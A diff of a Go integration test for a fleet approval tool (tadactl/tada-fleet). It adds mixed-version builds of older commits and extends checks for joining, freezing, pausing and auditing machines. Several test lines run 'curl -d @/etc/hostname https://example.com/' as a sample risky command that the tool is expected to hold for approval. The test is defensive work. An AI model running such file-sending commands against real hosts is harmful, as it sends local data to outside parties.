@@ -18,9 +18,14 @@ import (
 	"github.com/tada-run/tada-run/integration/served"
 )
 
-// before is the commit of the tada-fleet that is tried with the other programs of this one; "" for
-// the same: see make fleet-stress.
-var before = os.Getenv("TEST_BEFORE")
+// Commits of programs that are tried with the other ones of this commit, or "": of tada-fleet, of
+// all others, and of the tada-fleet that is the registrar. See make fleet-stress.
+var (
+	before     = os.Getenv("TEST_BEFORE")
+	others     = os.Getenv("TEST_OTHERS_BEFORE")
+	registrars = os.Getenv("TEST_REGISTRAR_BEFORE")
+	mixed      = before+others+registrars != ""
+)
 
 // newFleet is a place with the real tada-fleet, an etcd, and a fleet that ann has founded, typed as
 // in docs/fleet.md.
@@ -36,11 +41,14 @@ func newFleet(t *testing.T) (p *place, etcd *served.Etcd, site *exec.Cmd) {
 	if err := os.Symlink(self, filepath.Join(bin, "person")); err != nil {
 		t.Fatal(err)
 	}
-	build := exec.Command("go", "build", "-o", filepath.Join(bin, "tada-fleet"),
-		"./cmd/tada-fleet")
-	build.Dir = sourceOf(t, before)
-	if out, err := build.CombinedOutput(); err != nil {
-		t.Fatalf("%v: %s", err, out)
+	buildOf(t, before, bin, "tada-fleet")
+	if others != "" {
+		buildOf(t, others, bin, "tada-run", "tadactl")
+	}
+	serve := "tadactl fleet serve"
+	if registrars != "" {
+		buildOf(t, registrars, filepath.Join(bin, "before"), "tada-fleet")
+		serve = filepath.Join(bin, "before", "tada-fleet") + " serve"
 	}
 	for i, e := range p.env { // the account of the machine that asks is the usual one
 		if strings.HasPrefix(e, "TRANSCRIPT_HOME=") {
@@ -55,14 +63,13 @@ func newFleet(t *testing.T) (p *place, etcd *served.Etcd, site *exec.Cmd) {
 		"--auto-compaction-retention 1h") // without it, etcd is full one day
 	etcd = served.StartSecureEtcd(t, 1, filepath.Join(filepath.Dir(p.dir), "acme"))
 	p.env = append(p.env, "ETCD=https://"+etcd.Endpoints()[0], "SITE="+freePort(t))
-	return p, etcd, p.daemon("tadactl fleet serve ../acme --etcd $ETCD --listen $SITE",
-		"listens on")
+	return p, etcd, p.daemon(serve+" ../acme --etcd $ETCD --listen $SITE", "listens on")
 }
 
 // One machine asks, another one answers, and stops it.
 func TestFleetOfTwo(t *testing.T) {
 	t.Parallel()
-	p, _, _ := newFleet(t)
+	p, _, site := newFleet(t)
 	first := p.link("tadactl --home $ANN fleet invite --dir ../acme --etcd $ETCD " +
 		"--url https://$SITE --people --owner ann")
 	p.wants("tadactl --home $ANN fleet join '"+first+"' --name laptop", `is now in fleet "acme"`)
@@ -71,12 +78,12 @@ func TestFleetOfTwo(t *testing.T) {
 	p.wants("tadactl --home $CI fleet join '"+second+"' --name ci1", `with labels "env=ci"`)
 	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
 		"tadactl fleet agent")
-	if before == "" {
+	if !mixed {
 		p.alone()
 	}
 	agent := p.daemon("tadactl --home $CI fleet agent", "")
 	p.eventually("tadactl --home $CI pending", "")
-	if before == "" {
+	if !mixed {
 		p.eventually("tadactl --home $ANN fleet show ci1", "state     connected")
 	}
 	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
@@ -86,18 +93,20 @@ func TestFleetOfTwo(t *testing.T) {
 	p.wants("person tadactl --home $ANN fleet answer "+question, question+": approved")
 	p.wants("tadactl --home $CI pending", "answered")
 	p.wants("tadactl --home $ANN fleet list", "connected")
-	if before == "" {
+	if !mixed {
 		p.wants("tadactl --home $ANN fleet show ci1", "labels    env=ci\n")
 		p.wants("tadactl --home $ANN fleet show nobody",
 			`no machine has the id or the name "nobody"`)
 		p.wants("person tadactl --home $ANN fleet revoke nobody",
 			`no machine has the id or the name "nobody"`)
 	}
-	if before == "" { // an older program may not have these
+	if !mixed { // an older program may not have these
 		p.bucketOfNone()
 		p.oneInbox()
 		p.pausing()
+		agent = p.stopping(agent)
 		p.forcing()
+		p.replacing(site)
 	}
 	p.wants("person tadactl --home $ANN fleet freeze --label env=ci --reason leak", "freeze ")
 	p.eventually("tada-run --home $CI 'echo hello'", "it is frozen")
@@ -113,6 +122,23 @@ func TestFleetOfTwo(t *testing.T) {
 	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
 		"needs approval")
 	p.wants("tadactl --home $CI audit verify --complete", "ok: ")
+}
+
+// buildOf builds programs of a commit into a folder, in place of those that are there.
+func buildOf(t *testing.T, commit, bin string, names ...string) {
+	t.Helper()
+	source := sourceOf(t, commit)
+	for _, name := range names {
+		to := filepath.Join(bin, name)
+		if err := os.Remove(to); err != nil && !errors.Is(err, os.ErrNotExist) {
+			t.Fatal(err)
+		}
+		build := exec.Command("go", "build", "-o", to, "./cmd/"+name)
+		build.Dir = source
+		if out, err := build.CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+	}
 }
 
 // sourceOf returns the folder of the source of a commit; of this one for "".
@@ -276,8 +302,7 @@ func (p *place) pausing() {
 	p.wants("tadactl --home $ANN fleet status", `document 2`)
 	run := p.daemon("tada-run --home $CI 'while sleep 0.05; do echo step >>steps; done'", "")
 	p.eventually("cat steps", "step")
-	made := p.run("person tadactl --home $ANN fleet freeze --label env=ci --pause")
-	id := strings.TrimSuffix(strings.Fields(made)[1], ":")
+	id := p.freezes("--pause")
 	p.eventually("tadactl --home $CI log --json", "exec.paused")
 	was := p.run("cat steps")
 	time.Sleep(500 * time.Millisecond)
@@ -340,7 +365,7 @@ func (p *place) link(line string) string {
 	if err != nil || json.Unmarshal(out, &made) != nil {
 		p.t.Fatalf("%s: %v: %s", line, err, out)
 	}
-	if !regexp.MustCompile(`^https://127\.0\.0\.1:\d+/#`).MatchString(made.URL) {
+	if !regexp.MustCompile(`^https://(127\.0\.0\.1|localhost):\d+/#`).MatchString(made.URL) {
 		p.t.Fatalf("%s: %q", line, made.URL)
 	}
 	return made.URL
